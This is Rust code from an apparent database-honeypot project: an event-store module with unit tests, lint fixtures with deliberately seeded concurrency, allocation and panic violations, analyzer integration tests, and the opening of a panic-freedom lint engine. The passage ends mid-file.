        self.inner
            .read()
            .events
            .iter()
            .filter(|e| pred(e))
            .cloned()
            .collect()
    }

    /// Fold over all events without cloning them.
    pub fn fold<T>(&self, init: T, f: impl FnMut(T, &Event) -> T) -> T {
        let inner = self.inner.read();
        inner.events.iter().fold(init, f)
    }

    /// Zero-clone read access: run `f` against the full event slice under
    /// the read lock. This is the visitor counterpart of [`EventStore::all`]
    /// for hot paths that must not pay the full-vector clone.
    ///
    /// `f` must not call back into this store (the lock is held).
    pub fn read<T>(&self, f: impl FnOnce(&[Event]) -> T) -> T {
        let inner = self.inner.read();
        f(&inner.events)
    }

    /// Visit every event in log order without cloning.
    pub fn for_each(&self, mut f: impl FnMut(&Event)) {
        let inner = self.inner.read();
        for event in &inner.events {
            f(event);
        }
    }

    /// True when both stores hold identical event sequences — iterator
    /// equality without cloning either side.
    ///
    /// Two locks of the same kind are taken, so the acquisition order is
    /// fixed by address: concurrent `a.events_eq(b)` / `b.events_eq(a)`
    /// callers take the locks in the same global order and cannot
    /// deadlock each other.
    pub fn events_eq(&self, other: &EventStore) -> bool {
        if std::ptr::eq(self, other) {
            return true;
        }
        let (first, second) = if std::ptr::from_ref(self) < std::ptr::from_ref(other) {
            (self, other)
        } else {
            (other, self)
        };
        // decoy-lint: allow(lock-order) -- address-ordered acquisition above fixes a global order
        let a = first.inner.read();
        let b = second.inner.read();
        a.events == b.events
    }

    /// Number of distinct `(honeypot, session)` groups observed.
    pub fn session_count(&self) -> usize {
        self.inner.read().by_session.len()
    }

    /// All `(honeypot, session key)` pairs observed, unordered.
    pub fn session_keys(&self) -> Vec<(HoneypotId, SessionKey)> {
        self.inner.read().by_session.keys().copied().collect()
    }

    /// Events of one session, in log order.
    pub fn by_session(&self, honeypot: HoneypotId, key: SessionKey) -> Vec<Event> {
        let inner = self.inner.read();
        inner
            .by_session
            .get(&(honeypot, key))
            .map(|idxs| {
                idxs.iter()
                    .filter_map(|&i| inner.events.get(i).cloned())
                    .collect()
            })
            .unwrap_or_default()
    }

    /// Export as JSON lines (the dataset format of Appendix B).
    pub fn to_json_lines(&self) -> String {
        let inner = self.inner.read();
        let mut out = String::new();
        for event in &inner.events {
            // decoy-lint: allow(expect) -- Event derives Serialize from plain fields, infallible
            out.push_str(&serde_json::to_string(event).expect("event serializes"));
            out.push('\n');
        }
        out
    }

    /// Import JSON lines previously produced by [`EventStore::to_json_lines`].
    pub fn from_json_lines(text: &str) -> Result<Arc<Self>, serde_json::Error> {
        let store = EventStore::new();
        let mut events = Vec::new();
        for line in text.lines() {
            if line.trim().is_empty() {
                continue;
            }
            events.push(serde_json::from_str::<Event>(line)?);
        }
        store.log_many(events);
        Ok(store)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::time::EXPERIMENT_START;

    fn ip(n: u8) -> IpAddr {
        IpAddr::from([198, 51, 100, n])
    }

    fn hp(dbms: Dbms) -> HoneypotId {
        HoneypotId::new(dbms, InteractionLevel::Low, ConfigVariant::MultiService, 0)
    }

    fn ev(src: IpAddr, dbms: Dbms, kind: EventKind) -> Event {
        Event {
            ts: EXPERIMENT_START,
            honeypot: hp(dbms),
            src,
            session: 1,
            kind,
        }
    }

    #[test]
    fn ports_match_table4() {
        assert_eq!(Dbms::MySql.port(), 3306);
        assert_eq!(Dbms::Postgres.port(), 5432);
        assert_eq!(Dbms::Redis.port(), 6379);
        assert_eq!(Dbms::Mssql.port(), 1433);
        assert_eq!(Dbms::Elastic.port(), 9200);
        assert_eq!(Dbms::MongoDb.port(), 27017);
        assert_eq!(Dbms::CouchDb.port(), 5984);
        assert_eq!(Dbms::all().len(), 7);
    }

    #[test]
    fn log_and_indexes() {
        let store = EventStore::new();
        store.log(ev(ip(1), Dbms::Redis, EventKind::Connect));
        store.log(ev(ip(2), Dbms::Mssql, EventKind::Connect));
        store.log(ev(
            ip(1),
            Dbms::Redis,
            EventKind::Command {
                action: "INFO".into(),
                raw: "INFO".into(),
            },
        ));
        assert_eq!(store.len(), 3);
        assert_eq!(store.by_src(ip(1)).len(), 2);
        assert_eq!(store.by_src(ip(2)).len(), 1);
        assert_eq!(store.by_src(ip(3)).len(), 0);
        assert_eq!(store.by_dbms(Dbms::Redis).len(), 2);
        assert_eq!(store.by_dbms(Dbms::MySql).len(), 0);
        let mut sources = store.sources();
        sources.sort();
        assert_eq!(sources, vec![ip(1), ip(2)]);
    }

    #[test]
    fn filter_and_fold() {
        let store = EventStore::new();
        for i in 0..10u8 {
            store.log(ev(
                ip(i),
                Dbms::Postgres,
                EventKind::LoginAttempt {
                    username: "postgres".into(),
                    password: format!("pw{i}"),
                    success: false,
                },
            ));
        }
        let logins = store.filter(|e| matches!(e.kind, EventKind::LoginAttempt { .. }));
        assert_eq!(logins.len(), 10);
        let count = store.fold(0usize, |acc, e| {
            acc + matches!(e.kind, EventKind::LoginAttempt { .. }) as usize
        });
        assert_eq!(count, 10);
    }

    #[test]
    fn interactivity_classification() {
        assert!(!EventKind::Connect.is_interactive());
        assert!(!EventKind::Disconnect.is_interactive());
        assert!(EventKind::LoginAttempt {
            username: "sa".into(),
            password: "123".into(),
            success: false
        }
        .is_interactive());
        assert!(EventKind::Command {
            action: "KEYS".into(),
            raw: "KEYS *".into()
        }
        .is_interactive());
        assert!(EventKind::Payload {
            len: 14,
            recognized: Some("jdwp-scan".into()),
            preview: "JDWP-Handshake".into()
        }
        .is_interactive());
    }

    #[test]
    fn health_events_are_operational_not_interactive() {
        let kind = EventKind::Health {
            state: HealthState::Degraded,
            restarts: 2,
            detail: "accept loop died; restarting".into(),
        };
        assert!(!kind.is_interactive());
        // and they serialize like any other event
        let store = EventStore::new();
        store.log(ev(ip(1), Dbms::Redis, kind));
        let text = store.to_json_lines();
        let restored = EventStore::from_json_lines(&text).unwrap();
        assert!(restored
            .all()
            .first()
            .is_some_and(|e| matches!(e.kind, EventKind::Health { restarts: 2, .. })));
    }

    #[test]
    fn fault_hook_drops_and_counts_appends() {
        let store = EventStore::new();
        let n = std::sync::atomic::AtomicU64::new(0);
        store
            .set_fault_hook(move |_| n.fetch_add(1, std::sync::atomic::Ordering::Relaxed) % 3 == 0);
        for i in 0..9u8 {
            store.log(ev(ip(i), Dbms::Redis, EventKind::Connect));
        }
        assert_eq!(store.len(), 6, "every third append must be dropped");
        assert_eq!(store.dropped_appends(), 3);
        // batch path honors the hook too
        store.log_many((0..3u8).map(|i| ev(ip(i), Dbms::MySql, EventKind::Connect)));
        assert_eq!(store.dropped_appends(), 4);
        store.clear_fault_hook();
        store.log(ev(ip(9), Dbms::Redis, EventKind::Connect));
        assert_eq!(store.dropped_appends(), 4);
    }

    #[test]
    fn json_lines_roundtrip() {
        let store = EventStore::new();
        store.log(ev(ip(7), Dbms::MongoDb, EventKind::Connect));
        store.log(ev(
            ip(7),
            Dbms::MongoDb,
            EventKind::Command {
                action: "listDatabases".into(),
                raw: "listDatabases".into(),
            },
        ));
        let text = store.to_json_lines();
        assert_eq!(text.lines().count(), 2);
        let restored = EventStore::from_json_lines(&text).unwrap();
        assert_eq!(restored.all(), store.all());
        // garbage input errors
        assert!(EventStore::from_json_lines("not json\n").is_err());
    }

    #[test]
    fn log_many_matches_sequential_logging() {
        let a = EventStore::new();
        let b = EventStore::new();
        let events: Vec<Event> = (0..5u8)
            .map(|i| ev(ip(i), Dbms::Elastic, EventKind::Connect))
            .collect();
        for e in &events {
            a.log(e.clone());
        }
        b.log_many(events);
        assert_eq!(a.all(), b.all());
        assert!(a.events_eq(&b));
        assert_eq!(a.sources().len(), b.sources().len());
        assert_eq!(a.session_count(), b.session_count());
    }

    #[test]
    fn read_sees_events_without_cloning() {
        let store = EventStore::new();
        store.log(ev(ip(1), Dbms::Redis, EventKind::Connect));
        store.log(ev(ip(2), Dbms::Redis, EventKind::Disconnect));
        let (n, first_src) = store.read(|events| (events.len(), events[0].src));
        assert_eq!(n, 2);
        assert_eq!(first_src, ip(1));
        let mut visited = 0;
        store.for_each(|_| visited += 1);
        assert_eq!(visited, 2);
    }

    #[test]
    fn events_eq_detects_divergence() {
        let a = EventStore::new();
        let b = EventStore::new();
        a.log(ev(ip(1), Dbms::Redis, EventKind::Connect));
        b.log(ev(ip(1), Dbms::Redis, EventKind::Connect));
        assert!(a.events_eq(&b));
        assert!(a.events_eq(&a)); // self-comparison must not deadlock
        b.log(ev(ip(2), Dbms::Redis, EventKind::Connect));
        assert!(!a.events_eq(&b));
    }

    #[test]
    fn by_session_groups_in_log_order() {
        let store = EventStore::new();
        let mk = |src: IpAddr, session: u64, kind: EventKind| Event {
            ts: EXPERIMENT_START,
            honeypot: hp(Dbms::Redis),
            src,
            session,
            kind,
        };
        store.log(mk(ip(1), 1, EventKind::Connect));
        store.log(mk(ip(2), 1, EventKind::Connect));
        store.log(mk(
            ip(1),
            1,
            EventKind::Command {
                action: "INFO".into(),
                raw: "INFO".into(),
            },
        ));
        store.log(mk(ip(1), 2, EventKind::Connect));

        assert_eq!(store.session_count(), 3);
        let key = SessionKey {
            src: ip(1),
            session: 1,
        };
        let events = store.by_session(hp(Dbms::Redis), key);
        assert_eq!(events.len(), 2);
        assert_eq!(events[0].kind, EventKind::Connect);
        assert!(matches!(events[1].kind, EventKind::Command { .. }));
        // unknown session is empty
        let missing = SessionKey {
            src: ip(9),
            session: 1,
        };
        assert!(store.by_session(hp(Dbms::Redis), missing).is_empty());
        let mut keys = store.session_keys();
        keys.sort();
        assert_eq!(keys.len(), 3);
    }
}
