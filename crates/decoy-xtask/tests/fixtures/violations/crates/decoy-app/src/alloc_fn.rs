//! FN SCOPE: only the tagged function is hot (expect exactly 1
//! alloc-vec, from `hot`, none from the cold neighbours).
fn cold_before() -> Vec<u8> {
    Vec::new()
}
// decoy-hot-path: fn -- fixture: runs under the store write lock
fn hot() -> Vec<u8> {
    Vec::new()
}
fn cold_after() -> Vec<u8> {
    Vec::new()
}
