//! POSITIVE: a file-tagged hot path with one of each banned allocation
//! (expect alloc-vec, alloc-to-vec, alloc-clone, alloc-format,
//! alloc-box, alloc-string-from — 6 findings) plus one allowed clone.

// decoy-hot-path: file -- fixture decode loop, one call per frame
fn decode(frame: &[u8], name: &str) -> Out {
    let mut scratch: Vec<u8> = Vec::new();
    let copy = frame.to_vec();
    let owned = scratch.clone();
    let label = format!("frame from {name}");
    let boxed = Box::new(copy);
    let title = String::from(name);
    // decoy-lint: allow(alloc-clone) -- fixture: cold error arm keeps its copy
    let excused = owned.clone();
    Out { scratch, boxed, label, title, excused }
}
