//! NEGATIVE: identical allocations in an untagged file (expect 0 — the
//! pass only fires inside `decoy-hot-path` regions).
fn setup(name: &str) -> Out {
    let mut scratch: Vec<u8> = Vec::new();
    let label = format!("setup for {name}");
    let title = String::from(name);
    Out { scratch, label, title }
}
