//! BAD ALLOW: a directive without a reason is itself a finding and the
//! violation still fires (expect bad-allow + unwrap).
fn sloppy(v: Option<u8>) -> u8 {
    // decoy-lint: allow(unwrap)
    v.unwrap()
}
