//! POSITIVE: one of each panic-freedom violation (expect unwrap,
//! expect, panic, index, cast — 5 findings).
fn bad(v: Option<u8>, buf: &[u8], n: u64) -> u8 {
    let a = v.unwrap();
    let b = v.expect("present");
    if buf.is_empty() {
        panic!("empty");
    }
    let c = buf[0];
    a + b + c + (n as u8)
}
