//! ALLOW: a violation excused with a reasoned escape hatch (expect 0).
fn checked(v: Option<u8>) -> u8 {
    // decoy-lint: allow(unwrap) -- fixture: v is Some by construction
    v.unwrap()
}
