//! NEGATIVE: total equivalents of every banned construct (expect 0).
fn good(v: Option<u8>, buf: &[u8], n: u64) -> u8 {
    let a = v.unwrap_or(0);
    let c = buf.first().copied().unwrap_or_default();
    let d = u8::try_from(n & 0xFF).unwrap_or_default();
    a.wrapping_add(c).wrapping_add(d)
}
