#![forbid(unsafe_code)]
//! Fixture crate root.
