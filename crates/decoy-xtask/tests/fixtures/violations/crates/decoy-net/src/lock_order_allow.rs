//! ALLOW: caller-ordered double acquisition with the documented escape
//! hatch (expect 0 findings).
fn eq(&self, other: &Self) {
    // decoy-lint: allow(lock-order) -- address-ordered acquisition fixes a global order
    let a = self.epsilon.read();
    let b = other.epsilon.read();
    a.events == b.events
}
