//! NEGATIVE: consistent acquisition order everywhere (expect 0).
fn first(&self) {
    let g = self.gamma.lock();
    let d = self.delta.lock();
    g.touch(&d);
}
fn second(&self) {
    let g = self.gamma.lock();
    let d = self.delta.lock();
    d.touch(&g);
}
