//! ALLOW: the escape hatch suppresses a deliberate guard-across-await
//! (expect 0 findings).
async fn single_threaded(&self) {
    // decoy-lint: allow(lock-await) -- current-thread runtime, no second task can contend
    let guard = self.state.lock();
    self.io.send().await;
    guard.touch();
}
