//! POSITIVE: a guard held across `.await` (expect 1 lock-await).
async fn hold_across_await(&self) {
    let guard = self.state.lock();
    self.io.send().await;
    guard.touch();
}
