//! POSITIVE: two functions acquire the same pair of locks in opposite
//! order (expect 1 lock-order cycle).
fn alpha_then_beta(&self) {
    let a = self.alpha.lock();
    let b = self.beta.lock();
    a.touch(&b);
}
fn beta_then_alpha(&self) {
    let b = self.beta.lock();
    let a = self.alpha.lock();
    b.touch(&a);
}
