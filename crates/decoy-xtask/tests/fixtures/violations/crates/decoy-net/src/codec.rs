//! Fixture standing in for the real codec module, deliberately missing
//! its `decoy-hot-path` tag (expect 1 hot-path-tag-missing).
fn passthrough(x: u64) -> u64 {
    x
}
