//! POSITIVE: interprocedural cycle — `zeta` is held across a bare call
//! whose callee acquires `eta` then `zeta` (expect 1 lock-order cycle).
fn holds_zeta(&self) {
    let z = self.zeta.lock();
    reorders(z);
}
fn reorders(z: Guard) {
    let e = GLOBAL.eta.lock();
    let z2 = GLOBAL.zeta.lock();
    e.touch(&z2);
}
