//! NEGATIVE: guards dropped, scoped, or statement-bounded before the
//! `.await` (expect 0 findings).
async fn scoped(&self) {
    {
        let guard = self.state.lock();
        guard.touch();
    }
    self.io.send().await;
}
async fn explicit_drop(&self) {
    let guard = self.state.lock();
    guard.touch();
    drop(guard);
    self.io.send().await;
}
async fn statement_temporary(&self) {
    let n = self.state.lock().len();
    self.io.send_n(n).await;
}
async fn io_read_is_not_a_lock(&self, buf: &mut [u8]) {
    let n = self.sock.read(buf);
    self.io.send_n(n).await;
}
