//! End-to-end tests of `analyze` over the seeded-violation fixture
//! workspace in `tests/fixtures/violations/`.
//!
//! The fixture tree mirrors the real workspace layout (enforced lint paths
//! under `crates/decoy-wire/src/`, lock scope under `crates/decoy-net/src/`,
//! hot-path tags in `crates/decoy-app/src/`, `BENCH_*.json` + `CHANGES.md`
//! at the root) with one positive, one negative, and one allow case per
//! rule, so every pass is exercised through the same entry point CI uses.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use decoy_xtask::analyze::{run, Options};
use decoy_xtask::diag::Finding;

fn fixture_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests")
        .join("fixtures")
        .join("violations")
}

fn run_raw(root: &Path) -> Vec<Finding> {
    run(&Options {
        root: root.to_path_buf(),
        use_baseline: false,
        write_baseline: false,
    })
    .expect("fixture analyze runs")
    .findings
}

/// `rule -> count` for findings in files whose path contains `needle`.
fn rules_in(findings: &[Finding], needle: &str) -> BTreeMap<&'static str, usize> {
    let mut out = BTreeMap::new();
    for f in findings.iter().filter(|f| f.file.contains(needle)) {
        *out.entry(f.rule).or_insert(0) += 1;
    }
    out
}

#[test]
fn every_seeded_violation_is_found_and_only_those() {
    let findings = run_raw(&fixture_root());

    // ---- lock-discipline
    assert_eq!(
        rules_in(&findings, "lock_await_pos"),
        BTreeMap::from([("lock-await", 1)])
    );
    assert!(rules_in(&findings, "lock_await_neg").is_empty());
    assert!(rules_in(&findings, "lock_await_allow").is_empty());
    assert_eq!(
        rules_in(&findings, "lock_order_pos"),
        BTreeMap::from([("lock-order", 1)])
    );
    assert!(rules_in(&findings, "lock_order_neg").is_empty());
    assert!(rules_in(&findings, "lock_order_allow").is_empty());
    // the interprocedural fixture yields both the A->B->A ring and the
    // reacquire-through-a-call self-loop
    assert_eq!(
        rules_in(&findings, "lock_order_call"),
        BTreeMap::from([("lock-order", 2)])
    );

    // ---- panic-freedom (enforced prefix)
    assert_eq!(
        rules_in(&findings, "lint_pos"),
        BTreeMap::from([
            ("unwrap", 1),
            ("expect", 1),
            ("panic", 1),
            ("index", 1),
            ("cast", 1),
        ])
    );
    assert!(rules_in(&findings, "lint_neg").is_empty());
    assert!(rules_in(&findings, "lint_allow").is_empty());
    assert_eq!(
        rules_in(&findings, "lint_bad_allow"),
        BTreeMap::from([("bad-allow", 1), ("unwrap", 1)])
    );

    // ---- hot-path allocation
    assert_eq!(
        rules_in(&findings, "alloc_hot"),
        BTreeMap::from([
            ("alloc-vec", 1),
            ("alloc-to-vec", 1),
            ("alloc-clone", 1),
            ("alloc-format", 1),
            ("alloc-box", 1),
            ("alloc-string-from", 1),
        ])
    );
    assert!(rules_in(&findings, "alloc_cold").is_empty());
    assert_eq!(
        rules_in(&findings, "alloc_fn"),
        BTreeMap::from([("alloc-vec", 1)])
    );
    // the untagged registry member
    assert_eq!(
        rules_in(&findings, "codec.rs"),
        BTreeMap::from([("hot-path-tag-missing", 1)])
    );

    // ---- bench freshness
    assert_eq!(
        rules_in(&findings, "BENCH_stale"),
        BTreeMap::from([("bench-stale", 1)])
    );
    assert_eq!(
        rules_in(&findings, "BENCH_nosince"),
        BTreeMap::from([("bench-missing-since", 1)])
    );
    assert!(rules_in(&findings, "BENCH_fresh").is_empty());

    // nothing unaccounted for: the assertions above cover every finding
    let expected_total = 1 + 1 + 2 + 5 + 2 + 6 + 1 + 1 + 1 + 1;
    assert_eq!(
        findings.len(),
        expected_total,
        "unexpected extra findings: {:#?}",
        findings
    );
}

#[test]
fn findings_carry_spans_and_passes() {
    let findings = run_raw(&fixture_root());
    for f in &findings {
        assert!(f.line >= 1, "{}: line must be 1-based", f.render());
        assert!(f.col >= 1, "{}: col must be 1-based", f.render());
        assert!(
            ["lint", "locks", "alloc", "bench"].contains(&f.pass),
            "{}: unknown pass",
            f.render()
        );
        assert!(
            f.file.starts_with("crates/") || f.file.starts_with("BENCH_"),
            "{}: paths are workspace-relative",
            f.render()
        );
    }
    // spot-check one known span: the seeded unwrap in lint_pos.rs
    let unwrap = findings
        .iter()
        .find(|f| f.file.contains("lint_pos") && f.rule == "unwrap")
        .expect("seeded unwrap");
    let src = std::fs::read_to_string(fixture_root().join(&unwrap.file)).expect("fixture source");
    let line = src.lines().nth(unwrap.line - 1).expect("line exists");
    assert!(line.contains(".unwrap()"), "span points at the violation");
}

#[test]
fn baseline_roundtrip_suppresses_everything_then_goes_stale() {
    // copy the fixture tree so --write-baseline does not dirty the corpus
    let scratch = std::env::temp_dir().join(format!(
        "decoy-xtask-analyze-{}-{:?}",
        std::process::id(),
        std::thread::current().id()
    ));
    let _ = std::fs::remove_dir_all(&scratch);
    copy_tree(&fixture_root(), &scratch).expect("copy fixtures");

    let raw = run_raw(&scratch).len();
    assert!(raw > 0);

    let wrote = run(&Options {
        root: scratch.clone(),
        use_baseline: true,
        write_baseline: true,
    })
    .expect("write baseline");
    assert!(wrote.wrote_baseline.is_some());
    assert_eq!(wrote.suppressed, raw);

    // with the baseline applied the same tree is clean
    let after = run(&Options {
        root: scratch.clone(),
        use_baseline: true,
        write_baseline: false,
    })
    .expect("apply baseline");
    assert!(after.findings.is_empty(), "{:#?}", after.findings);
    assert_eq!(after.suppressed, raw);
    assert_eq!(after.stale_baseline, 0);

    // fixing a violation leaves its baseline entry stale but stays clean
    let fixed = scratch.join("crates/decoy-wire/src/lint_pos.rs");
    let src = std::fs::read_to_string(&fixed).expect("read lint_pos");
    std::fs::write(
        &fixed,
        src.replace("let a = v.unwrap();", "let a = v.unwrap_or(0);"),
    )
    .expect("fix lint_pos");
    let fixed_run = run(&Options {
        root: scratch.clone(),
        use_baseline: true,
        write_baseline: false,
    })
    .expect("rerun after fix");
    assert!(fixed_run.findings.is_empty());
    assert_eq!(fixed_run.suppressed, raw - 1);
    assert_eq!(fixed_run.stale_baseline, 1);

    // --no-baseline shows the raw view again
    let no_baseline = run(&Options {
        root: scratch.clone(),
        use_baseline: false,
        write_baseline: false,
    })
    .expect("raw rerun");
    assert_eq!(no_baseline.findings.len(), raw - 1);

    let _ = std::fs::remove_dir_all(&scratch);
}

#[test]
fn rewriting_the_baseline_cannot_grow_the_alloc_budget() {
    let scratch = std::env::temp_dir().join(format!(
        "decoy-xtask-ratchet-{}-{:?}",
        std::process::id(),
        std::thread::current().id()
    ));
    let _ = std::fs::remove_dir_all(&scratch);
    copy_tree(&fixture_root(), &scratch).expect("copy fixtures");

    run(&Options {
        root: scratch.clone(),
        use_baseline: true,
        write_baseline: true,
    })
    .expect("write initial baseline");

    // seed one more hot-path allocation and try to re-baseline it away
    let hot = scratch.join("crates/decoy-app/src/alloc_hot.rs");
    let src = std::fs::read_to_string(&hot).expect("read alloc_hot");
    std::fs::write(
        &hot,
        format!("{src}\nfn grew() {{ let _ = format!(\"{{}}\", 1); }}\n"),
    )
    .expect("grow alloc_hot");
    let err = run(&Options {
        root: scratch.clone(),
        use_baseline: true,
        write_baseline: true,
    });
    match err {
        Err(msg) => assert!(msg.contains("allocation budget"), "{msg}"),
        Ok(_) => panic!("baseline regeneration with a larger alloc budget must fail"),
    }

    // restoring the file makes regeneration legal again (budget shrinks back)
    std::fs::write(&hot, src).expect("restore alloc_hot");
    run(&Options {
        root: scratch.clone(),
        use_baseline: true,
        write_baseline: true,
    })
    .expect("rewrite at equal budget");

    let _ = std::fs::remove_dir_all(&scratch);
}

#[test]
fn missing_root_is_an_error_not_a_clean_run() {
    let err = run(&Options {
        root: PathBuf::from("/nonexistent/nowhere"),
        use_baseline: false,
        write_baseline: false,
    });
    assert!(err.is_err());
}

fn copy_tree(from: &Path, to: &Path) -> std::io::Result<()> {
    std::fs::create_dir_all(to)?;
    for entry in std::fs::read_dir(from)? {
        let entry = entry?;
        let target = to.join(entry.file_name());
        if entry.path().is_dir() {
            copy_tree(&entry.path(), &target)?;
        } else {
            std::fs::copy(entry.path(), &target)?;
        }
    }
    Ok(())
}
