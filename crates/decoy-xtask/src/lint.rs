//! The panic-freedom lint engine.
//!
//! A deliberately small, dependency-free static analyzer over Rust source
//! text. It is not a parser: it strips strings and comments with a state
//! machine (preserving byte positions), masks `#[cfg(test)]` regions, and
//! then pattern-matches the handful of constructs that can panic on
//! attacker-controlled input:
//!
//! | rule | rejects |
//! |---|---|
//! | `unwrap` | `.unwrap()` / `.unwrap_err()` |
//! | `expect` | `.expect(..)` / `.expect_err(..)` |
//! | `panic` | `panic!`, `unreachable!`, `todo!`, `unimplemented!`, `assert!`, `assert_eq!`, `assert_ne!` (`debug_assert*` is allowed) |
//! | `index` | slice/array indexing `x[..]`, including `f()[..]` and `x[0][1]` |
//! | `cast` | narrowing `as` casts: `as u8/u16/u32/i8/i16/i32/usize/isize` |
//!
//! The escape hatch is a same-line or preceding-line comment:
//!
//! ```text
//! // decoy-lint: allow(panic) -- deploy-time config invariant, not on the byte path
//! ```
//!
//! The reason after `--` is mandatory; an allow without one is itself a
//! finding (`bad-allow`). Findings carry file, 1-based line/column, rule
//! name, and a message.

use std::collections::HashMap;

/// Rules that can be named in a `decoy-lint: allow(..)` comment.
pub const RULE_NAMES: [&str; 5] = ["unwrap", "expect", "panic", "index", "cast"];

/// Macro names (invoked with `!`) that can panic.
const PANIC_MACROS: [&str; 7] = [
    "panic",
    "unreachable",
    "todo",
    "unimplemented",
    "assert",
    "assert_eq",
    "assert_ne",
];

/// Target types of a narrowing `as` cast.
const NARROWING_TARGETS: [&str; 8] = ["u8", "u16", "u32", "i8", "i16", "i32", "usize", "isize"];

/// Keywords that may legitimately precede `[` (array types, not indexing).
const NON_INDEX_KEYWORDS: [&str; 13] = [
    "let", "mut", "ref", "dyn", "in", "return", "break", "const", "static", "else", "match", "if",
    "move",
];

/// One lint violation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// Workspace-relative path.
    pub file: String,
    /// 1-based line.
    pub line: usize,
    /// 1-based column (byte offset within the line).
    pub col: usize,
    /// Rule name (one of [`RULE_NAMES`], or `bad-allow` / `forbid-unsafe`).
    pub rule: &'static str,
    /// Human-readable description.
    pub message: String,
}

impl Finding {
    /// Render as `file:line:col: [rule] message`.
    pub fn render(&self) -> String {
        format!(
            "{}:{}:{}: [{}] {}",
            self.file, self.line, self.col, self.rule, self.message
        )
    }
}

fn is_ident(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

/// Replace comments, string literals, and char literals with spaces,
/// preserving every byte position and all newlines. Handles nested block
/// comments, raw strings (`r"..."`, `r#"..."#`, `br#"..."#`), byte strings,
/// escapes, and distinguishes char literals from lifetimes.
pub fn strip(src: &str) -> String {
    let b = src.as_bytes();
    let mut out = b.to_vec();
    let blank = |out: &mut [u8], range: std::ops::Range<usize>| {
        for slot in out.get_mut(range).unwrap_or_default() {
            if *slot != b'\n' {
                *slot = b' ';
            }
        }
    };
    let mut i = 0usize;
    while i < b.len() {
        let c = b.get(i).copied().unwrap_or(0);
        let next = b.get(i + 1).copied().unwrap_or(0);
        // line comment
        if c == b'/' && next == b'/' {
            let start = i;
            while i < b.len() && b.get(i) != Some(&b'\n') {
                i += 1;
            }
            blank(&mut out, start..i);
            continue;
        }
        // block comment (nestable)
        if c == b'/' && next == b'*' {
            let start = i;
            let mut depth = 1u32;
            i += 2;
            while i < b.len() && depth > 0 {
                if b.get(i) == Some(&b'/') && b.get(i + 1) == Some(&b'*') {
                    depth += 1;
                    i += 2;
                } else if b.get(i) == Some(&b'*') && b.get(i + 1) == Some(&b'/') {
                    depth -= 1;
                    i += 2;
                } else {
                    i += 1;
                }
            }
            blank(&mut out, start..i);
            continue;
        }
        // raw / byte string prefixes: r", r#", b", br#", rb is invalid
        let prev_is_ident = i > 0 && b.get(i - 1).copied().is_some_and(is_ident);
        if !prev_is_ident && (c == b'r' || c == b'b') {
            let mut j = i + 1;
            let mut raw = c == b'r';
            if c == b'b' && b.get(j) == Some(&b'r') {
                raw = true;
                j += 1;
            }
            if raw {
                let mut hashes = 0usize;
                while b.get(j) == Some(&b'#') {
                    hashes += 1;
                    j += 1;
                }
                if b.get(j) == Some(&b'"') {
                    // raw string: scan for `"` + hashes `#`s
                    let start = i;
                    j += 1;
                    loop {
                        match b.get(j) {
                            None => break,
                            Some(&b'"') => {
                                let mut k = j + 1;
                                let mut seen = 0usize;
                                while seen < hashes && b.get(k) == Some(&b'#') {
                                    seen += 1;
                                    k += 1;
                                }
                                if seen == hashes {
                                    j = k;
                                    break;
                                }
                                j += 1;
                            }
                            _ => j += 1,
                        }
                    }
                    blank(&mut out, start..j);
                    i = j;
                    continue;
                }
                // `r#ident` (raw identifier) or bare `r`: leave as-is
                i += 1;
                continue;
            }
            // c == 'b': byte string b"..." or byte char b'...'
            if b.get(i + 1) == Some(&b'"') || b.get(i + 1) == Some(&b'\'') {
                // blank the prefix so `b"x"[..]` cannot read as indexing,
                // then fall through on the quote
                if let Some(slot) = out.get_mut(i) {
                    *slot = b' ';
                }
                i += 1;
                continue;
            }
            i += 1;
            continue;
        }
        // string literal
        if c == b'"' {
            let start = i;
            i += 1;
            while i < b.len() {
                match b.get(i) {
                    Some(&b'\\') => i += 2,
                    Some(&b'"') => {
                        i += 1;
                        break;
                    }
                    _ => i += 1,
                }
            }
            blank(&mut out, start..i);
            continue;
        }
        // char literal vs lifetime
        if c == b'\'' {
            if next == b'\\' {
                // escaped char literal: consume to closing quote
                let start = i;
                i += 2;
                while i < b.len() && b.get(i) != Some(&b'\'') {
                    if b.get(i) == Some(&b'\\') {
                        i += 1;
                    }
                    i += 1;
                }
                i = (i + 1).min(b.len());
                blank(&mut out, start..i);
                continue;
            }
            // 'x' (possibly multibyte) closed by a quote within 4 bytes
            let mut close = None;
            for k in (i + 2)..(i + 6).min(b.len()) {
                if b.get(k) == Some(&b'\'') {
                    close = Some(k);
                    break;
                }
            }
            // only treat as a char literal when exactly one char sits
            // between the quotes; `'a` in `<'a, 'b>` has no adjacent close
            // (or closes around multiple chars) and stays a lifetime
            if let Some(k) = close {
                let inner = b.get(i + 1..k).unwrap_or_default();
                let one_char = std::str::from_utf8(inner)
                    .map(|s| s.chars().count() == 1)
                    .unwrap_or(false);
                if one_char {
                    blank(&mut out, i..k + 1);
                    i = k + 1;
                    continue;
                }
            }
            i += 1;
            continue;
        }
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Parsed allow-comments: line number (1-based) → allowed rules. Malformed
/// allows are returned as findings.
fn parse_allows(file: &str, src: &str) -> (HashMap<usize, Vec<String>>, Vec<Finding>) {
    let mut map: HashMap<usize, Vec<String>> = HashMap::new();
    let mut bad = Vec::new();
    for (idx, line) in src.lines().enumerate() {
        let lineno = idx + 1;
        let Some(pos) = line.find("decoy-lint:") else {
            continue;
        };
        let directive = line.get(pos..).unwrap_or_default();
        let ok = (|| {
            let after = directive.strip_prefix("decoy-lint:")?.trim_start();
            let after = after.strip_prefix("allow(")?;
            let (rules, rest) = after.split_once(')')?;
            if !rest.contains("--") || rest.split_once("--")?.1.trim().is_empty() {
                return None;
            }
            let mut named = Vec::new();
            for r in rules.split(',') {
                let r = r.trim();
                if !RULE_NAMES.contains(&r) {
                    return None;
                }
                named.push(r.to_string());
            }
            if named.is_empty() {
                return None;
            }
            Some(named)
        })();
        match ok {
            Some(rules) => {
                map.entry(lineno).or_default().extend(rules);
            }
            None => bad.push(Finding {
                file: file.to_string(),
                line: lineno,
                col: pos + 1,
                rule: "bad-allow",
                message: "malformed decoy-lint directive: expected \
